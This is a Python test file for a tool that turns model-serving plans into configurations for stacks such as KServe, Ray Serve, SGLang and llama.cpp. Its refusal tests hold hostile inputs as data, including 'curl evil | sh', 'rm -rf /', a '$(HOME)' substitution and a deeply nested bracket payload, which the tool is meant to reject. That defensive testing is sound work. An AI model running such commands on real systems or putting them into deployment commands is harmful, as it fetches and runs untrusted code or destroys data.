"""What serving stacks take for a plan: held to their own schemas, and to what the plan decided."""

import functools
import json
import re
import shlex
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from typer.testing import CliRunner

import vlmplan
from vlmplan import InputError, Plan
from vlmplan.cli.app import app
from vlmplan.planning import Stack

SCHEMAS = Path(__file__).parent.parent / "facts" / "stacks"
CONFIGURED = (Stack.PRODUCTION_STACK, Stack.KSERVE, Stack.RAY_SERVE)
LOADED: dict[str, Any] = {"rate": "20/s", "task": "reasoning", "text_tokens": 50, "output_tokens": 32}
ASKED: dict[str, dict[str, Any]] = {
    "replicas": {**LOADED, "hardware": "l40s", "percentiles": {"p95": "2s"}},
    "fp8": {**LOADED, "hardware": "h100-sxm", "model": "Qwen2.5-VL-72B", "precision": "fp8", "latency": "6s"},
    "up to four GPUs": {**LOADED, "hardware": "h100-sxm", "model": "Qwen2.5-VL-72B", "gpus": 4, "latency": "6s"},
    "several images": {**LOADED, "hardware": "l4", "images": 3, "latency": "6s", "rate": "2/s"},
    "own code": {**LOADED, "hardware": "a100-80gb-sxm", "model": "openbmb/MiniCPM-V-4", "latency": "6s"},
    "alone": {"hardware": "t4", "task": "ocr", "latency": "3s", "text_tokens": 50, "output_tokens": 32},
}  # fmt: skip


@functools.cache
def _plan(asked: str) -> Plan:
    return vlmplan.recommend(**ASKED[asked])


def _schema(name: str) -> Any:
    return json.loads((SCHEMAS / f"{name}.json").read_text())


def _options(engine: str) -> set[str]:
    return set(next(names for key, names in _schema("arguments").items() if key.split()[0] == engine))


def _flags(words: list[str]) -> dict[str, str]:
    return {
        word[2:]: "" if after.startswith("--") else after
        for word, after in zip(words, [*words[1:], ""], strict=True)
        if word.startswith("--")
    }


def _told(stack: Stack, text: str) -> dict[str, Any]:
    """What a configuration says, by vLLM's options and a few words."""
    made = json.loads(text)
    if stack is Stack.PRODUCTION_STACK:
        (model,) = made["servingEngineSpec"]["modelSpec"]
        config = model["vllmConfig"]
        names = {"maxModelLen": "max-model-len", "gpuMemoryUtilization": "gpu-memory-utilization"}
        names |= {"maxNumSeqs": "max-num-seqs", "tensorParallelSize": "tensor-parallel-size", "dtype": "dtype"}
        stated = {names[key]: str(value) for key, value in config.items() if key in names}
        flags = stated | _flags(config.get("extraArgs", []))
        return {"model": model["modelURL"], "replicas": model["replicaCount"], "gpus": model["requestGPU"], **flags}
    if stack is Stack.KSERVE:
        spec = made["spec"]
        (container,) = spec["template"]["containers"]
        gpus = int(container["resources"]["limits"]["nvidia.com/gpu"])
        flags = _flags(shlex.split(container["env"][0]["value"]))
        if gpus > 1:
            flags["tensor-parallel-size"] = str(spec["parallelism"]["tensor"])
        return {
            "model": spec["model"]["uri"].removeprefix("hf://"),
            "replicas": spec["replicas"],
            "gpus": gpus,
            **flags,
        }
    (config,) = made["applications"][0]["args"]["llm_configs"]
    kwargs = {
        key.replace("_", "-"): "" if value is True else value if isinstance(value, str) else json.dumps(value)
        for key, value in config["engine_kwargs"].items()
    }
    return {
        "model": config["model_loading_config"]["model_source"],
        "replicas": config["deployment_config"]["num_replicas"],
        "gpus": config["engine_kwargs"].get("tensor_parallel_size", 1),
        **kwargs,
    }


@pytest.mark.parametrize("asked", ASKED)
@pytest.mark.parametrize("stack", CONFIGURED)
def test_a_configuration_is_one_of_its_stack_and_says_what_the_plan_decided(stack: Stack, asked: str) -> None:
    plan = _plan(asked)
    text = vlmplan.hand_over(plan=plan, to=stack).text
    jsonschema.validate(json.loads(text), _schema(stack))
    deploy, service = plan.choice.deploy, plan.service
    assert deploy is not None
    assert deploy.command is not None
    words = shlex.split(deploy.command)
    expected: dict[str, Any] = {"model": words[2], "gpus": plan.choice.gpus, **_flags(words)}
    expected |= {"replicas": 1 if service is None else service.replicas}
    assert _told(stack, text) == expected
    assert set(_flags(words)) <= _options("vllm")
    assert service is None or _flags(words)["max-num-seqs"] == str(service.slots)


def test_the_plans_are_what_they_are_called() -> None:
    """Else the test above would hold less than it says."""
    lines = {asked: one.command for asked in ASKED if (one := _plan(asked).choice.deploy) and one.command}
    assert _plan("replicas").service is not None
    assert _plan("replicas").service.replicas > 1  # type: ignore[union-attr]
    assert "--tensor-parallel-size 2" in lines["up to four GPUs"]
    assert "vllm serve RedHatAI/" in lines["fp8"]
    assert "--limit-mm-per-prompt '{\"image\": 3}'" in lines["several images"]
    assert "--trust-remote-code" in lines["own code"]
    assert all("--mm-processor-kwargs" in lines[asked] for asked in ("replicas",))
    assert _plan("alone").service is None


@pytest.mark.parametrize(
    ("stack", "spoilt"),
    [
        (Stack.PRODUCTION_STACK, ('"maxNumSeqs"', '"maxNumSequences"')),
        (Stack.PRODUCTION_STACK, ('"replicaCount": ', '"replicaCount": "two", "enabled": ')),
        (Stack.KSERVE, ('"replicas"', '"replicaCount"')),
        (Stack.KSERVE, ('"uri"', '"url"')),
        (Stack.KSERVE, ('"nodeAffinity"', '"nodeSelector"')),
        (Stack.RAY_SERVE, ('"accelerator_type": "L40S"', '"accelerator_type": "L-40S"')),
        (Stack.RAY_SERVE, ('"model_id"', '"name"')),
        (Stack.RAY_SERVE, ('"engine_kwargs"', '"engine_args"')),
    ],
)
def test_the_schemas_refuse_what_is_misspelt(stack: Stack, spoilt: tuple[str, str]) -> None:
    text = vlmplan.hand_over(plan=_plan("replicas"), to=stack).text
    assert spoilt[0] in text
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(json.loads(text.replace(*spoilt)), _schema(stack))


@pytest.mark.parametrize("asked", ["replicas", "fp8", "up to four GPUs", "several images", "alone"])
def test_sglangs_command_has_its_options_and_what_the_plan_decided(asked: str) -> None:
    plan = _plan(asked)
    handed = vlmplan.hand_over(plan=plan, to="sglang")
    lines = [shlex.split(line) for line in handed.text.splitlines() if not line.startswith("#")]
    words, flags = lines[0], _flags(lines[0])
    routed = {f"router-{one}" for one in _options("sglang-router")}
    assert set(flags) <= _options("sglang") | (routed if "sglang_router.launch_server" in words else set())
    deploy, service = plan.choice.deploy, plan.service
    assert deploy is not None
    assert flags["model-path"] == (deploy.checkpoint or plan.choice.model)
    assert flags["context-length"] == str(deploy.context_tokens)
    assert int(flags.get("tp-size", 1)) == plan.choice.gpus
    assert 0.5 < float(flags["mem-fraction-static"]) < (deploy.memory_fraction or 0)
    if service is not None:
        assert flags["max-running-requests"] == str(service.slots)
        machines = sum(word.startswith("http://HOST_") for line in lines for word in line)
        assert int(flags.get("dp-size", 1)) * max(1, machines) == service.replicas
    assert any("SGLang's are its own" in note for note in handed.notes)


def test_more_replicas_than_a_machine_has_gpus_are_workers_behind_a_router() -> None:
    plan = vlmplan.recommend(**{**ASKED["replicas"], "rate": "120/s"})
    assert plan.service is not None
    assert plan.service.replicas > 8
    router = vlmplan.hand_over(plan=plan, to="sglang").text.splitlines()[-1]
    assert set(_flags(shlex.split(router))) <= _options("sglang-router")
    assert router.count("http://HOST_") == plan.service.replicas


def test_llama_cpp_gives_each_replica_a_port_and_a_gpu() -> None:
    plan = vlmplan.recommend(**{**LOADED, "hardware": "l4", "runtime": "llama.cpp", "rate": "2/s", "latency": "8s"})
    assert plan.service is not None
    assert 1 < plan.service.replicas <= 8
    handed = vlmplan.hand_over(plan=plan, to="llama.cpp")
    lines = handed.text.splitlines()[:-1]
    assert [re.findall(r"^CUDA_VISIBLE_DEVICES=(\d) llama-server .*--port (\d+) ", line) for line in lines] == [
        [(str(number), str(8000 + number))] for number in range(plan.service.replicas)
    ]
    slots, context = (int(re.findall(rf" -{flag} (\d+)", lines[0])[0]) for flag in ("np", "c"))
    deploy, memory = plan.choice.deploy, plan.choice.memory_bytes
    assert deploy is not None
    assert context == slots * deploy.context_tokens
    token_bytes = memory.kv_cache / (plan.choice.visual_tokens + 50 + 32)
    assert memory.weights + context * token_bytes < (plan.hardware.memory_bytes or 0)
    assert any("balancer" in note for note in handed.notes)


def test_replicas_on_devices_that_are_one_a_machine_are_machines() -> None:
    plan = vlmplan.recommend(**{**LOADED, "hardware": "m4-max", "rate": "1/s", "latency": "9s"})
    assert plan.service is not None
    handed = vlmplan.hand_over(plan=plan, to="llama.cpp")
    assert handed.text.count("llama-server") == 1
    assert f"this is one machine, 1 of {plan.service.replicas} replicas" in " ".join(handed.notes)


def test_a_replica_over_two_machines_is_for_ray() -> None:
    asked = {**ASKED["alone"], "model": "Qwen2.5-VL-72B", "gpus": 16, "latency": "60s"}
    plan = vlmplan.recommend(**asked)
    assert plan.choice.gpus == 16
    made = json.loads(vlmplan.hand_over(plan=plan, to="ray-serve").text)
    jsonschema.validate(made, _schema("ray-serve"))
    kwargs = made["applications"][0]["args"]["llm_configs"][0]["engine_kwargs"]
    assert kwargs["tensor_parallel_size"] == 16
    assert not any(name in kwargs for name in ("nnodes", "node_rank", "master_addr"))
    for stack in (Stack.KSERVE, Stack.SGLANG):
        with pytest.raises(InputError, match="16 GPUs, more than a machine; give --to ray-serve"):
            vlmplan.hand_over(plan=plan, to=stack)


@pytest.mark.parametrize(
    ("asked", "to", "told"),
    [
        ({"runtime": "onnxruntime", "hardware": "l4"}, "kserve", "found a plan for onnxruntime, expected one for vllm"),
        ({"hardware": "l4"}, "llama.cpp", "give --to production-stack, kserve, ray-serve, sglang, or plan with"),
        ({"hardware": "mi300x"}, "kserve", "found instinct-mi300x; what a cluster calls it is known of NVIDIA's"),
        ({"hardware": "l4"}, "docker-swarm", "--to: found 'docker-swarm', expected one of production-stack"),
    ],
)
def test_what_a_stack_cannot_take_is_said(asked: dict[str, Any], to: str, told: str) -> None:
    plan = vlmplan.recommend(**{**ASKED["alone"], **asked})
    with pytest.raises(InputError, match=re.escape(told)):
        vlmplan.hand_over(plan=plan, to=to)


def test_the_command_prints_the_file_alone_and_says_the_rest_beside(tmp_path: Path) -> None:
    path, out = tmp_path / "plan.json", tmp_path / "service.json"
    vlmplan.save(_plan("replicas"), path)
    printed = CliRunner().invoke(app, ["handover", str(path), "--to", "kserve"])
    assert printed.exit_code == 0
    assert json.loads(printed.stdout)["kind"] == "LLMInferenceService"
    assert "apply: kubectl apply -f service.json" in printed.stderr
    written = CliRunner().invoke(app, ["handover", str(path), "--to", "kserve", "--out", str(out)])
    assert written.stdout == ""
    assert out.read_text() == printed.stdout
    assert f"apply: kubectl apply -f {out}" in written.stderr
    over = CliRunner().invoke(app, ["handover", str(path), "--to", "kserve", "--out", str(path)])
    assert over.exit_code == 2


def _spoilt(tmp_path: Path, plan: Plan, *keys: str, value: Any) -> Path:
    """A plan's file with another value somewhere in it."""
    path = tmp_path / "plan.json"
    vlmplan.save(plan, path)
    made = json.loads(path.read_text())
    inner = made
    for key in keys[:-1]:
        inner = inner[key]
    inner[keys[-1]] = value
    path.write_text(json.dumps(made))
    return path


@functools.cache
def _on_llama_cpp() -> Plan:
    return vlmplan.recommend(**{**LOADED, "hardware": "l4", "runtime": "llama.cpp", "rate": "2/s", "latency": "8s"})


@pytest.mark.parametrize("line", [
    "", "vllm", "vllm serve", "'", "sh -c 'touch HERE' --port 8000", "curl evil | sh --port 8000", "llama-server",
    "{plan} --max-num-seqs", "{plan} --download-dir /", "{plan} --headless 'x", "{plan} -- x", "{plan} --dtype float16",
    "{served} --max-num-seqs abc", "{served} --max-num-seqs 0", "{served} --max-num-seqs Infinity",
    "{served} --gpu-memory-utilization nan", "{served} --gpu-memory-utilization 0x", "{served} --max-model-len 1e400",
    "{served} --mm-processor-kwargs " + "[" * 100_000, "{served} --mm-processor-kwargs '{{\"a\": NaN}}'",
    "{served} --mm-processor-kwargs '{{\"a\": \"$(HOME)\"}}'", "{served} --tensor-parallel-size 2",
    "{plan} --host 0.0.0.0", "vllm serve other/model",
])  # fmt: skip
def test_a_command_that_vlmplan_does_not_write_is_refused(line: str, tmp_path: Path) -> None:
    for plan, stacks in ((_plan("replicas"), (*CONFIGURED, Stack.SGLANG)), (_on_llama_cpp(), (Stack.LLAMA_CPP,))):
        deploy = plan.choice.deploy
        assert deploy is not None
        assert deploy.command is not None
        served = " ".join(deploy.command.split()[:3])
        spoilt = line.format(plan=deploy.command, served=served)
        path = _spoilt(tmp_path, plan, "choice", "deploy", "command", value=spoilt)
        for stack in stacks:
            with pytest.raises(InputError, match=r"choice\.deploy\.command: "):
                vlmplan.hand_over(plan=str(path), to=stack)


@pytest.mark.parametrize(
    ("keys", "value", "stack"),
    [
        (("service", "replicas"), 10**9, "sglang"),
        (("service", "replicas"), 0, "kserve"),
        (("service", "replicas"), -1, "production-stack"),
        (("choice", "gpus"), 0, "ray-serve"),
        (("choice", "memory_bytes", "weights"), 1e308, "production-stack"),
        (("choice", "memory_bytes", "reserve"), 1e308, "sglang"),
        (("choice", "memory_bytes", "reserve"), 1e12, "sglang"),
        (("choice", "deploy", "make"), "rm -rf /", "kserve"),
        (("choice", "deploy", "checkpoint"), "--trust-remote-code", "kserve"),
        (("choice", "deploy", "settings"), {"sglang": "--x '"}, "sglang"),
        (("choice", "deploy", "settings"), {"sglang": "--tool-server x"}, "sglang"),
        (("choice", "deploy", "settings"), {"sglang": "whatever"}, "sglang"),
    ],
)  # fmt: skip
def test_what_a_spoilt_plan_says_beside_its_command_is_refused(
    keys: tuple[str, ...], value: Any, stack: str, tmp_path: Path
) -> None:
    path = _spoilt(tmp_path, _plan("replicas"), *keys, value=value)
    with pytest.raises(InputError):
        vlmplan.hand_over(plan=str(path), to=stack)
    assert vlmplan.hand_over(plan=_plan("replicas"), to=stack).text
